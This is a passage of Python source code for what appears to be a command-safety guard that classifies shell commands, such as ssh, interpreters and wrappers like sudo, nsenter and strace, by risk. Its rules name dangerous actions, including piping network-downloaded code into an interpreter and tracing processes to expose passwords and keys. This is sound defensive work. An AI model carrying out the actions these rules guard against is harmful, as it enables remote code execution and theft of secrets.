            local.append(Part(UNKNOWN, f"ssh -o {o}: runs a local command or loads code the guard does not inspect"))
    if opts.has("-F", "-I"):
        local.append(Part(UNKNOWN, "ssh -F/-I: another configuration file or PKCS#11 library, which can run commands"))
    return local + _ssh_remote(words, i, ctx)


def _ssh_remote(words: list[Word], i: int, ctx: Ctx) -> list[Part]:
    if i >= len(words):
        return [Part(UNKNOWN, "ssh without a host")]
    host = words[i].text
    rest = words[i + 1:]
    if not rest:
        return [Part(UNKNOWN, f"opens a shell on {host}: anything typed runs there", interactive=True)]
    inner = ctx.line(" ".join(w.text for w in rest))
    return [Part(p.cls, f"on {host}: {p.reason}", p.exposes, p.target, p.interactive) for p in inner]


def _script_runner(words: list[Word], ctx: Ctx) -> list[Part]:
    """Interpreters: known read-only one-liners, otherwise unknown."""
    name = prog(words[0])
    args = [w.text for w in words[1:]]
    if args[:2] == ["-m", "json.tool"]:
        files = [a for n, a in enumerate(args[2:]) if not a.startswith("-") and (n == 0 or args[2 + n - 1] != "--indent")]
        if len(files) >= 2 and files[1] not in ("-", "/dev/stdout"):
            return [Part(MUTATING, f"{name} -m json.tool writes the local file {files[1]}", target=files[1])]
        return [Part(READ_ONLY, f"{name} -m json.tool: formats JSON")]
    if args[:1] in (["--version"], ["-V"]):
        return [Part(READ_ONLY, f"{name}: prints its version")]
    if not args:
        if ctx.stdin.network:
            return [Part(DESTRUCTIVE, f"pipes code downloaded from the network into {name}")]
        if ctx.stdin.present:
            return [Part(UNKNOWN, f"{name} runs a program read from standard input")]
        return [Part(UNKNOWN, f"opens an interactive {name}", interactive=True)]
    if any(_fetches(w) for w in words[1:]) or (args[0] == "-" and ctx.stdin.network):
        return [Part(DESTRUCTIVE, f"{name} runs code downloaded from the network")]
    return [Part(UNKNOWN, f"{name} runs a program the guard does not analyse")]


def _prefix_wrapper(value_flags: set[str], what: str, leading: int = 0, base: Part | None = None,
                    no_command: str | None = None, command_flags: tuple[str, ...] = ()) -> Rule:
    """A program that runs the command after its options and `leading` positional arguments (chroot NEWROOT,
    taskset MASK, flock FILE …): the class is at least the command's. command_flags name an option whose value
    is a shell command (`flock -c CMD`, `script -c CMD`)."""
    def rule(words: list[Word], ctx: Ctx) -> list[Part]:
        parts = [base] if base else []
        for n, w in enumerate(words[1:-1], 1):
            if w.text in command_flags:
                return parts + ctx.line(words[n + 1].text)
        i = skip_options(words, 1, value_flags) + leading
        if i >= len(words):
            if no_command:
                return parts + [Part(UNKNOWN, no_command, interactive=True)]
            return parts or [Part(READ_ONLY, f"{what} without a command")]
        return parts + ctx.argv(words[i:])
    return rule


def _coproc(words: list[Word], ctx: Ctx) -> list[Part]:
    """coproc CMD …, coproc NAME { …; }: the command runs in the background."""
    rest = words[1:]
    if len(rest) >= 2 and rest[1].text in ("{", "("):
        rest = rest[2:]
    elif rest and rest[0].text in ("{", "("):
        rest = rest[1:]
    return ctx.argv(rest) if rest else [Part(READ_ONLY, "coproc without a command")]


_NSENTER_VALUE = {"-t", "--target", "-S", "--setuid", "-G", "--setgid", "--user-parent"}
_UNSHARE_VALUE = {"--propagation", "--setgroups", "--map-user", "--map-group", "--map-users", "--map-groups", "-S",
                  "--setuid", "-G", "--setgid", "-R", "--root", "-w", "--wd", "--monotonic", "--boottime"}

_TRACES = Part(READ_ONLY, "the tracer prints every system call with its data (the passwords and keys a process reads "
                         "or writes included)", exposes=True)

WRAPPERS: dict[str, Rule] = {
    "chroot": _prefix_wrapper({"--userspec", "--groups"}, "chroot", 1, no_command="chroot without a command opens a "
                              "shell in the new root"),
    "nsenter": _prefix_wrapper(_NSENTER_VALUE, "nsenter", base=Part(MUTATING, "nsenter enters another process's "
                               "namespaces (with -t 1 and -m: the host)"), no_command="nsenter without a command "
                               "opens a shell in the namespaces"),
    "unshare": _prefix_wrapper(_UNSHARE_VALUE, "unshare", no_command="unshare without a command opens a shell"),
    "setsid": _prefix_wrapper(set(), "setsid"), "coproc": _coproc,
    "flock": _prefix_wrapper({"-w", "--timeout", "-E", "--conflict-exit-code"}, "flock", 1,
                             command_flags=("-c", "--command")),
    "taskset": _prefix_wrapper(set(), "taskset", 1), "chrt": _prefix_wrapper({"-T", "-P", "-D"}, "chrt", 1),
    "numactl": _prefix_wrapper({"-m", "--membind", "-N", "--cpunodebind", "-C", "--physcpubind", "-i",
                                "--interleave", "-p", "--preferred"}, "numactl"),
    "cgexec": _prefix_wrapper({"-g"}, "cgexec"), "faketime": _prefix_wrapper({"-f"}, "faketime", 1),
    "setpriv": _prefix_wrapper({"--reuid", "--regid", "--groups", "--inh-caps", "--ambient-caps", "--bounding-set",
                                "--securebits", "--pdeathsig", "--selinux-label", "--apparmor-profile"}, "setpriv"),
    "fakeroot": _prefix_wrapper({"-l", "--lib", "--faked", "-s", "-i"}, "fakeroot"),
    "gosu": _prefix_wrapper(set(), "gosu", 1), "su-exec": _prefix_wrapper(set(), "su-exec", 1),
    "pkexec": _prefix_wrapper({"--user"}, "pkexec"), "tini": _prefix_wrapper({"-s", "-p", "-e"}, "tini"),
    "dumb-init": _prefix_wrapper({"-r", "--rewrite"}, "dumb-init"), "chpst": _prefix_wrapper({"-u", "-U", "-e",
                                                                                              "-n", "-l", "-L"}, "chpst"),
    "strace": _prefix_wrapper({"-o", "-e", "-p", "-s", "-u", "-a", "-b", "-E", "-I", "-O", "-P", "-S", "-X"}, "strace",
                              base=_TRACES),
    "ltrace": _prefix_wrapper({"-o", "-e", "-p", "-s", "-u", "-a", "-n", "-A", "-D", "-F", "-l", "-x"}, "ltrace",
                              base=_TRACES),
    "script": _prefix_wrapper({"-E", "--echo", "-I", "--log-in", "-O", "--log-out", "-B", "--log-io", "-T",
                               "--log-timing", "-m", "--logging-format", "-o", "--output-limit"}, "script",
                              base=Part(MUTATING, "script writes a typescript file"),
                              command_flags=("-c", "--command")),
    "systemd-run": _prefix_wrapper({"-u", "--unit", "-p", "--property", "-E", "--setenv", "--uid", "--gid",
                                    "--nice", "--working-directory", "-d", "--description", "--slice", "-M",
                                    "--machine", "-H", "--host", "--on-active", "--on-boot", "--on-startup",
                                    "--on-unit-active", "--on-unit-inactive", "--on-calendar", "--timer-property",
                                    "--path-property", "--socket-property", "--service-type", "--expand-environment"},
                                   "systemd-run", base=Part(MUTATING, "systemd-run starts a transient unit")),
    "sg": lambda words, ctx: (ctx.line(words[3].text) if len(words) > 3 and words[2].text == "-c"
                              else _wrapped(words, 2, ctx, "sg")),
    "sudo": _sudo, "doas": _doas, "env": _env, "timeout": _timeout, "nice": _nice,
    "ionice": _simple_wrapper({"-c", "-n", "-p", "-P", "-u", "--class", "--classdata"}, "ionice"),
    "nohup": _simple_wrapper(set(), "nohup"), "time": _time, "stdbuf": _simple_wrapper({"-i", "-o", "-e"}, "stdbuf"),
    "unbuffer": _simple_wrapper(set(), "unbuffer"), "command": _command, "builtin": _simple_wrapper(set(), "builtin"),
    "exec": _exec, "xargs": _xargs, "watch": _watch, "eval": _eval, "source": _source, ".": _source,
    "trap": _trap, "su": _su, "runuser": _su, "ssh": _ssh,
    **{s: _shell for s in ("sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish", "busybox-sh")},
    **{s: _script_runner for s in ("python", "python3", "perl", "ruby", "node", "php", "lua", "deno", "bun")},
    "busybox": lambda words, ctx: _wrapped(words, 1, ctx, "busybox"),
}

RULES: dict[str, Rule] = {
    **unix_rules.RULES,
    **db_rules.RULES,
    **tool_rules.RULES,
    **kubectl_rules.RULES,
    **WRAPPERS,
}


def program_names() -> list[str]:
    """Every program the guard has a rule for (documentation and tests)."""
    return sorted(RULES)


__all__ = ["classify", "classify_parts", "Verdict", "program_names"]
